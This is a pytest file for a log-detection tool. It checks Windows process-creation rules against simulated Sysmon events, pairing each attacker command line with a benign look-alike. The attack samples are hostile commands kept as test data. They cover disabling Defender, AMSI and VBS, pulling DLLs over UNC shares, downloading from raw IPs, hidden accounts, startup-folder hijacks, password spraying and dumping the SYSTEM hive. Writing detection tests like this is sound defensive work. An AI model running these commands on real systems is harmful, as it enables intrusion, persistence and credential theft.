"""logwarden's own Windows process-creation rules in app/detect/data/windows_process_a.yml.

Each rule gets the attack as Sysmon 1 logs it (fields as real telemetry shows them, names
anonymised) and fires at its level, and the routine use of the same binary, which stays quiet.
Events go through the real windows parser (tests/app/detect/rules/test_windows_directory_rules.evtx)."""
from __future__ import annotations

import pytest
from test_windows_directory_rules import evtx, hits

SYSMON = "Microsoft-Windows-Sysmon/Operational"
S32 = "C:\\Windows\\System32\\"
CMD = S32 + "cmd.exe"
PS = S32 + "WindowsPowerShell\\v1.0\\powershell.exe"
REG = S32 + "reg.exe"
WMIC = S32 + "wbem\\WMIC.exe"
CURL = S32 + "curl.exe"
CERTUTIL = S32 + "certutil.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
DL = "C:\\Users\\alice\\Downloads\\"


def proc(image: str, command_line: str, parent: str = CMD, original: str | None = None, line_no: int = 1,
         **extra):
    data = {"Image": image, "CommandLine": command_line, "ParentImage": parent, "User": "CORP\\alice",
            "OriginalFileName": original or image.rsplit("\\", 1)[-1], **extra}
    return evtx(1, SYSMON, "Microsoft-Windows-Sysmon", data, line_no=line_no, computer="ws01.corp.local")


# rule, attack (image, command line, parent, extra fields), level, routine look-alike
CASES = [
    ("lw-win-driverquery-script-host",
     (S32 + "driverquery.exe", f'"{S32}driverquery.exe"', S32 + "mshta.exe", {"OriginalFileName": "drvqry.exe"}),
     "high",
     (S32 + "driverquery.exe", "driverquery /v /fo csv", CMD, {"OriginalFileName": "drvqry.exe"})),
    ("lw-win-findstr-lsass",
     (S32 + "findstr.exe", "findstr  lsass", CMD, {}), "high",
     (S32 + "findstr.exe", 'findstr /i "error" C:\\logs\\app.log', CMD, {})),
    ("lw-win-findstr-lsass",
     (CMD, 'cmd /c "tasklist | findstr /i lsass"', CMD, {}), "high",
     (CMD, 'cmd /c "tasklist | findstr /i outlook"', CMD, {})),
    ("lw-win-certutil-encode-staging",
     (CERTUTIL, "certutil  -encode payload.bat payload_.b64", CMD, {"OriginalFileName": "CertUtil.exe"}), "high",
     (CERTUTIL, "certutil -encode C:\\pki\\web01.der C:\\pki\\web01.txt", CMD, {"OriginalFileName": "CertUtil.exe"})),
    ("lw-win-certutil-encode-staging",
     (CERTUTIL, "certutil  -encode C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Network\\a1.xml "
                "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Network\\b2.xml", CMD, {"OriginalFileName": "CertUtil.exe"}),
     "high",
     (CERTUTIL, "certutil -decode C:\\Users\\bob\\AppData\\Local\\Temp\\cert.b64 cert.cer", CMD,
      {"OriginalFileName": "CertUtil.exe"})),
    ("lw-win-certutil-ntlm-coercion",
     (CERTUTIL, "certutil  -syncwithWU \\\\198.51.100.7\\share", CMD, {"OriginalFileName": "CertUtil.exe"}), "high",
     (CERTUTIL, "certutil -syncWithWU \\\\pki01\\PKI\\CTLs", CMD, {"OriginalFileName": "CertUtil.exe"})),
    ("lw-win-system-restore-disabled-cmdline",
     (REG, 'reg  add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v "DisableSR" '
           '/t "REG_DWORD" /d "1" /f', CMD, {}), "high",
     (REG, 'reg query "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v DisableSR', CMD, {})),
    ("lw-win-rundll32-unc-dll",
     (S32 + "rundll32.exe", "rundll32.exe  '\\\\\\\\203.0.113.9\\\\x\\\\a.dll,0'", CMD, {"OriginalFileName": "RUNDLL32.EXE"}),
     "high",
     (S32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl", CMD,
      {"OriginalFileName": "RUNDLL32.EXE"})),
    ("lw-win-rundll32-unc-dll",
     (S32 + "rundll32.exe", "rundll32 \\\\files.example.net@SSL\\dav\\x.dll,Start", CMD, {"OriginalFileName": "RUNDLL32.EXE"}),
     "high",
     (S32 + "rundll32.exe", 'rundll32.exe "C:\\Program Files\\Vendor\\tool.dll",Run', CMD,
      {"OriginalFileName": "RUNDLL32.EXE"})),
    ("lw-win-adfind-domain-recon",
     (DL + "AdFind.exe", "AdFind.exe  -s trustdmp", CMD, {"Product": "AdFind"}), "high",
     (DL + "AdFind.exe", "AdFind.exe -b dc=corp,dc=local -f samaccountname=alice mail", CMD, {"Product": "AdFind"})),
    ("lw-win-adfind-domain-recon",
     (DL + "AdFind.exe", "AdFind.exe   -default -s base lockoutduration lockoutthreshold minpwdlength pwdproperties",
      CMD, {"Product": "AdFind"}), "high",
     (S32 + "findstr.exe", "findstr /i lockoutduration policy.txt", CMD, {})),
    ("lw-win-adfind-execution",
     (DL + "AdFind.exe", "AdFind.exe  -f (objectcategory=person)", CMD, {"Product": "AdFind"}), "medium",
     (S32 + "dsquery.exe", "dsquery user -name alice", CMD, {})),
    ("lw-win-adfind-renamed",
     (DL + "ldapq.exe", "ldapq.exe", CMD, {"OriginalFileName": "AdFind.exe", "Product": "AdFind"}), "high",
     (DL + "AdFind.exe", "AdFind.exe -sc dcmodes", CMD, {"OriginalFileName": "AdFind.exe", "Product": "AdFind"})),
    ("lw-win-netexec",
     (DL + "nxc\\nxc.exe", "nxc.exe  smb 192.0.2.10 -u admin -p Winter2025", CMD, {"OriginalFileName": "-"}), "high",
     (S32 + "net.exe", "net use \\\\fs01\\share", CMD, {})),
    ("lw-win-headless-browser-fetch",
     (EDGE, f'"{EDGE}"   --headless=new --disable-gpu https://mockbin.org/bin/0000-aaaa', CMD, {}), "high",
     (CHROME, f'"{CHROME}" --headless --remote-debugging-port=9222 https://intranet.corp.local/report', CMD, {})),
    ("lw-win-headless-browser-fetch",
     (CHROME, f'"{CHROME}"  --headless --enable-logging --disable-gpu --dump-dom "http://198.51.100.4/a.txt"', CMD, {}),
     "high",
     (CHROME, f'"{CHROME}" --headless --print-to-pdf=C:\\out\\r.pdf https://intranet.corp.local/', CMD, {})),
    ("lw-win-browser-shell-url-download",
     (EDGE, f'"{EDGE}"  "http://198.51.100.4/update.zip"', CMD, {}), "medium",
     (EDGE, f'"{EDGE}" https://intranet.corp.local/files/handbook.zip', "C:\\Windows\\explorer.exe", {})),
    ("lw-win-vbs-disabled-cmdline",
     (REG, 'reg.exe  add "HKLM\\System\\CurrentControlSet\\Control\\DeviceGuard\\Scenarios\\'
           'HypervisorEnforcedCodeIntegrity" /v "Enabled" /t REG_DWORD /d 0 /f', CMD, {}), "high",
     (REG, 'reg.exe add "HKLM\\System\\CurrentControlSet\\Control\\DeviceGuard\\Scenarios\\'
           'HypervisorEnforcedCodeIntegrity" /v "Enabled" /t REG_DWORD /d 1 /f', CMD, {})),
    ("lw-win-vbs-disabled-cmdline",
     (PS, f'"{PS}" -c "Set-ItemProperty -Path "HKLM:Software\\Policies\\Microsoft\\Windows\\DeviceGuard" '
          '-Name "EnableVirtualizationBasedSecurity" -Value 0"', "-", {}), "high",
     (PS, f'"{PS}" -c "Get-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control\\DeviceGuard '
          '-Name EnableVirtualizationBasedSecurity"', CMD, {})),
    ("lw-win-amsi-disabled-registry-cmdline",
     (REG, f'"{REG}" add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable /t REG_DWORD /d 0 /f',
      PS, {}), "high",
     (REG, f'"{REG}" query "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable', PS, {})),
    ("lw-win-print-dump-sensitive",
     (S32 + "print.exe", "print  /D:C:\\Windows\\Temp\\s.txt \\\\localhost\\C$\\@GMT-2026.01.01-10.00.00\\windows\\"
                         "system32\\config\\SYSTEM", CMD, {"OriginalFileName": "Print.Exe"}), "high",
     (S32 + "print.exe", "print /D:\\\\printsrv\\hp4 C:\\reports\\q3.txt", CMD, {"OriginalFileName": "Print.Exe"})),
    ("lw-win-hacktool-wsass",
     ("C:\\Users\\Public\\w\\WSASS.exe", "WSASS.exe  WerFaultSecure.exe 812", CMD, {"OriginalFileName": "-"}), "high",
     (S32 + "WerFaultSecure.exe", "C:\\Windows\\System32\\WerFaultSecure.exe -u -p 812 -s 904", S32 + "WerFault.exe", {})),
    ("lw-win-werfaultsecure-foreign-parent",
     (S32 + "WerFaultSecure.exe", f"{S32}WerFaultSecure.exe /h /pid 3000 /tid 3004 /encfile 300 /cancel 360 /type 268310",
      DL + "freezer.exe", {}), "high",
     (S32 + "WerFaultSecure.exe", f"{S32}WerFaultSecure.exe -u -p 3000 -s 412", S32 + "WerFault.exe", {})),
    ("lw-win-devcon-disable-vmci",
     ("C:\\Program Files (x86)\\Windows Kits\\10\\Tools\\x64\\devcon.exe", 'devcon.exe  disable "ROOT\\VMWVMCIHOSTDEV"',
      CMD, {"OriginalFileName": "DevCon.exe"}), "high",
     ("C:\\Program Files (x86)\\Windows Kits\\10\\Tools\\x64\\devcon.exe", 'devcon.exe status "ROOT\\VMWVMCIHOSTDEV"',
      CMD, {"OriginalFileName": "DevCon.exe"})),
    ("lw-win-shell-folders-startup-redirect",
     (REG, f'"{REG}" add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders" '
           '/v "Common Startup" /t REG_SZ /d C:\\ProgramData\\x /f', PS, {}), "high",
     (REG, f'"{REG}" query "HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders" '
           '/v Startup', PS, {})),
    ("lw-win-system-binary-name-elsewhere",
     (DL + "taskhost.exe", "taskhost.exe", CMD, {"OriginalFileName": "CALC.EXE"}), "high",
     (S32 + "taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", S32 + "svchost.exe", {})),
    ("lw-win-advancedrun-privileged",
     (DL + "AdvancedRun.exe", 'AdvancedRun.exe  /EXEFilename "C:\\Windows\\System32\\sc.exe" /WindowState 0 '
                              '/CommandLine "stop WinDefend" /StartDirectory "" /RunAs 8 /Run', CMD, {}), "high",
     (DL + "AdvancedRun.exe", 'AdvancedRun.exe /EXEFilename "C:\\Tools\\app.exe" /RunAs 1 /Run', CMD, {})),
    ("lw-win-advancedrun-execution",
     (DL + "AdvancedRun.exe", f'"{DL}AdvancedRun.exe"', "C:\\Windows\\explorer.exe", {"Product": "AdvancedRun"}),
     "medium",
     (S32 + "runas.exe", "runas /user:CORP\\admin cmd", CMD, {})),
    ("lw-win-tor-execution",
     ("C:\\Users\\alice\\Desktop\\Tor Browser\\Browser\\firefox.exe",
      '"C:\\Users\\alice\\Desktop\\Tor Browser\\Browser\\firefox.exe"', "C:\\Windows\\explorer.exe",
      {"Product": "Tor Browser", "Description": "Tor Browser"}), "high",
     ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", '"C:\\Program Files\\Mozilla Firefox\\firefox.exe"',
      "C:\\Windows\\explorer.exe", {"Product": "Firefox", "Description": "Firefox"})),
    ("lw-win-curl-ip-download",
     (CURL, "curl  --output hello.txt https://203.0.113.56/x/evil.txt", CMD, {}), "medium",
     (CURL, "curl -o setup.msi https://download.vendor.example/setup.msi", CMD, {})),
    ("lw-win-curl-file-url",
     (CURL, "curl  file:///C:\\Users\\alice\\AppData\\Local\\Temp\\a.dll", CMD, {}), "medium",
     (CURL, "curl -s https://api.corp.local/health", CMD, {})),
    ("lw-win-wmic-product-uninstall",
     (WMIC, "wmic  /node:\"127.0.0.1\" product where \"name like 'Tightvnc%%'\" call uninstall", CMD,
      {"OriginalFileName": "wmic.exe"}), "medium",
     (WMIC, "wmic product get name,version", CMD, {"OriginalFileName": "wmic.exe"})),
    ("lw-win-wmi-securitycenter-discovery",
     (WMIC, f'"{WMIC}" /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get displayName /Format:List', PS,
      {"OriginalFileName": "wmic.exe"}), "medium",
     (WMIC, f'"{WMIC}" /Namespace:\\\\root\\cimv2 path Win32_BIOS get SerialNumber', PS, {"OriginalFileName": "wmic.exe"})),
    ("lw-win-wmic-process-create",
     (WMIC, "wmic  process call create notepad.exe", CMD, {"OriginalFileName": "wmic.exe"}), "medium",
     (WMIC, "wmic process list brief", CMD, {"OriginalFileName": "wmic.exe"})),
    ("lw-win-wmic-service-stop",
     (WMIC, f"\"{WMIC}\" service where \"caption like '%%AVagent%%'\" call stopservice", PS,
      {"OriginalFileName": "wmic.exe"}), "medium",
     (WMIC, f'"{WMIC}" service where name="Spooler" get state', PS, {"OriginalFileName": "wmic.exe"})),
    ("lw-win-wmic-stdregprov-write",
     (WMIC, f'"{WMIC}" /NameSpace:\\\\root\\default Class StdRegProv Call CreateKey sSubKeyName=SOFTWARE\\Policies\\X',
      PS, {"OriginalFileName": "wmic.exe"}), "medium",
     (WMIC, f'"{WMIC}" /NameSpace:\\\\root\\default Class StdRegProv Call EnumKey hDefKey=2147483650', PS,
      {"OriginalFileName": "wmic.exe"})),
    ("lw-win-wmic-service-path-recon",
     (WMIC, f'"{WMIC}" service get name,displayname,pathname,startmode', PS, {"OriginalFileName": "wmic.exe"}),
     "medium",
     (WMIC, f'"{WMIC}" service get name,state', PS, {"OriginalFileName": "wmic.exe"})),
    ("lw-win-findstr-security-tools",
     (CMD, 'cmd  /c "tasklist | findstr virus"', CMD, {}), "medium",
     (CMD, 'cmd /c "tasklist | findstr /i excel"', CMD, {})),
    ("lw-win-ssh-proxycommand-exec",
     (S32 + "OpenSSH\\sftp.exe", 'sftp  -o ProxyCommand="cmd /c c:\\windows\\system32\\calc.exe" .', CMD,
      {"OriginalFileName": "-"}), "medium",
     (S32 + "OpenSSH\\ssh.exe", 'ssh -o ProxyCommand="ssh -W %h:%p jump.corp.local" db01', CMD, {"OriginalFileName": "-"})),
    ("lw-win-dism-remove-defender",
     (S32 + "Dism.exe", "Dism  /online /Disable-Feature /FeatureName:Windows-Defender /Remove /NoRestart /quiet", CMD,
      {"OriginalFileName": "DISM.EXE"}), "high",
     (S32 + "Dism.exe", "Dism /online /Enable-Feature /FeatureName:NetFx3 /All", CMD, {"OriginalFileName": "DISM.EXE"})),
    ("lw-win-cipher-wipe",
     (S32 + "cipher.exe", "cipher.exe  /w:C:", CMD, {"OriginalFileName": "CIPHER.EXE"}), "medium",
     (S32 + "cipher.exe", "cipher /e C:\\Users\\alice\\Private", CMD, {"OriginalFileName": "CIPHER.EXE"})),
    ("lw-win-hidden-user-specialaccounts",
     (REG, 'REG  ADD "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\Userlist" '
           '/v svc_backup$ /t REG_DWORD /d 0', CMD, {}), "high",
     (REG, 'reg query "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList"',
      CMD, {})),
    ("lw-win-ftp-renamed",
     ("C:\\Users\\Public\\upd.exe", "upd.exe", CMD, {"OriginalFileName": "ftp.exe"}), "medium",
     (S32 + "ftp.exe", "ftp -s:C:\\scripts\\upload.txt ftp.corp.local", CMD, {"OriginalFileName": "ftp.exe"})),
    ("lw-win-reg-language-discovery",
     (REG, "reg  query HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Nls\\Language", CMD, {}), "medium",
     (REG, "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager /v PendingFileRenameOperations", CMD, {})),
    ("lw-win-github-runner-registered-user-folder",
     ("C:\\Users\\dev\\Downloads\\actions-runner\\bin\\Runner.Listener.exe",
      '"C:\\Users\\dev\\Downloads\\actions-runner\\bin\\Runner.Listener.exe"  configure --url '
      'https://github.com/someone/somerepo --token AAAAAAAAAAAAAAAAAAAAAAAAAAAAA', CMD,
      {"OriginalFileName": "Runner.Listener.dll"}), "medium",
     ("C:\\actions-runner\\bin\\Runner.Listener.exe",
      '"C:\\actions-runner\\bin\\Runner.Listener.exe" configure --url https://github.com/corp/build '
      '--token AAAAAAAAAAAAAAAAAAAAAAAAAAAAA --runasservice', CMD, {"OriginalFileName": "Runner.Listener.dll"})),
    ("lw-win-system-binary-name-elsewhere",
     ("C:\\ProgramData\\svchost.exe", "svchost.exe -k netsvcs", CMD, {}), "high",
     ("\\??\\C:\\WINDOWS\\system32\\conhost.exe", "\\??\\C:\\WINDOWS\\system32\\conhost.exe 0xffffffff -ForceV1",
      CMD, {})),
    ("lw-win-netexec",
     ("C:\\Tools\\x.exe", "nxc winrm 192.0.2.0/24 -u users.txt -p pass.txt", CMD, {}), "high",
     ("C:\\Tools\\x.exe", "x.exe --config nxc.ini", CMD, {})),
    ("lw-win-shell-folders-startup-redirect",
     (PS, 'powershell -c "Set-ItemProperty -Path \'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\'
          'User Shell Folders\' -Name Startup -Value C:\\Users\\Public\\s"', CMD, {}), "high",
     (REG, f'"{REG}" add "HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders" /v Startup '
           '/t REG_EXPAND_SZ /d "%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup" /f',
      CMD, {})),
]


@pytest.mark.parametrize("rule_name, attack, level, routine", CASES, ids=[c[0] for c in CASES])
def test_rule_fires_on_attack_and_stays_quiet_on_routine_use(rules, rule_name, attack, level, routine):
    image, command_line, parent, extra = attack
    assert hits(rules, [proc(image, command_line, parent, **extra)], rule_name) == [(level, [1])]
    image, command_line, parent, extra = routine
    assert hits(rules, [proc(image, command_line, parent, **extra)], rule_name) == []


def test_security_4688_shape_fires_too(rules):
    """Security 4688 with command-line auditing: NewProcessName/ParentProcessName instead of Image."""
    event = evtx(4688, "Security", "Microsoft-Windows-Security-Auditing",
                 {"NewProcessName": S32 + "findstr.exe", "CommandLine": "findstr /i lsass",
                  "ParentProcessName": CMD, "SubjectUserName": "alice", "SubjectDomainName": "CORP"})
    assert hits(rules, [event], "lw-win-findstr-lsass") == [("high", [1])]
